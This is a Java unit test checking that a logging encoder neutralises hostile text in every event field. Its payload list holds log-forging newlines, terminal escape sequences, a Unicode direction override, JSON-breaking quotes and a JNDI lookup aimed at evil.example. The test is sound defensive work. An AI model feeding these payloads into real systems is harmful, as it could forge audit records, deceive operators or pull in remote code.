package dev.earworm.ops;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What members and vendors may write, wherever in an event it stands: one line stays one line, and a terminal obeys none of it. */
class LogInjectionTest {
    private static final String FORGED_LINE = "2026-01-01T00:00:00.000Z ERROR forged";

    private static final List<String> HOSTILE = List.of(
            "a\n" + FORGED_LINE,
            "a\r\n" + FORGED_LINE,
            "a\r" + FORGED_LINE,
            "a\u0085" + FORGED_LINE,
            "a\u2028" + FORGED_LINE + "\u2029",
            "a\u000b" + FORGED_LINE + "\f",
            "\u001b[2J\u001b[31mred",
            "\u001b]0;a title\u0007",
            "\u001b]8;;https://evil.example\u001b\\a link\u001b]8;;\u001b\\",
            "\u009b31mred without an escape character",
            "\u0090device control\u009c",
            "over\b\b\b\bwritten\u007f",
            "\u202egnp.3pm\u202c",
            "\u2066isolated\u2069\u200f\u061c",
            "zero\u200bwidth\u200d\u2060\ufeff",
            "an invisible tag \udb40\udc41\udb40\udc42",
            "\0",
            "half a pair \ud800 and \udc00",
            "\",\"level\":\"ERROR\",\"x\":\"",
            "\"}\n{\"level\":\"ERROR\"}",
            "\\\",\\u0022\\n",
            "%d{HH:mm} {} ${jndi:ldap://evil.example/a} #{1+1}");

    private final LoggerContext context = new LoggerContext();

    static Stream<Arguments> everyPlaceOfEachFormat() {
        return Stream.of(LogFormatConfig.values())
                .flatMap(format -> HOSTILE.stream()
                        .flatMap(text -> Stream.of(Place.values()).map(place -> Arguments.of(format, place, text))));
    }

    /** Where in an event a stranger's words may come to stand. */
    enum Place {
        MESSAGE,
        EXCEPTION,
        THREAD,
        MARK
    }

    @ParameterizedTest
    @MethodSource("everyPlaceOfEachFormat")
    void anEventStaysOneEventAndATerminalObeysNoneOfIt(LogFormatConfig format, Place place, String hostile)
            throws Exception {
        String written =
                new String(new LogEncoder(format, List.of()).encode(event(place, hostile)), StandardCharsets.UTF_8);

        assertThat(written).endsWith("\n");
        assertThat(written.codePoints().filter(point -> point != '\n')).allMatch(LogInjectionTest::isHarmless);
        assertThat(written.lines().filter(line -> !line.startsWith("    | "))).hasSize(1);
        if (format == LogFormatConfig.JSON) {
            assertThat(written.lines()).hasSize(1);
            JsonNode event = new ObjectMapper().readTree(written);
            assertThat(event.path("level").asText()).isEqualTo("INFO");
            assertThat(event.has("x")).isFalse();
            assertThat(field(event, place)).contains(hostile);
        }
    }

    private static String field(JsonNode event, Place place) {
        return switch (place) {
            case MESSAGE -> event.path("message").asText();
            case EXCEPTION -> event.path("stackTrace").asText();
            case THREAD -> event.path("thread").asText();
            case MARK -> event.path("job").asText();
        };
    }

    private static boolean isHarmless(int point) {
        return switch (Character.getType(point)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.SURROGATE,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR -> false;
            default -> true;
        };
    }

    private LoggingEvent event(Place place, String hostile) {
        LoggingEvent event = new LoggingEvent(
                LogInjectionTest.class.getName(),
                context.getLogger("earworm.test"),
                Level.INFO,
                place == Place.MESSAGE ? "prompt {}" : "failed",
                place == Place.EXCEPTION ? new IllegalStateException(hostile) : null,
                place == Place.MESSAGE ? new Object[] {hostile} : null);
        event.setThreadName(place == Place.THREAD ? hostile : "main");
        event.setMDCPropertyMap(Map.of("job", place == Place.MARK ? hostile : "0f3k"));
        return event;
    }
}
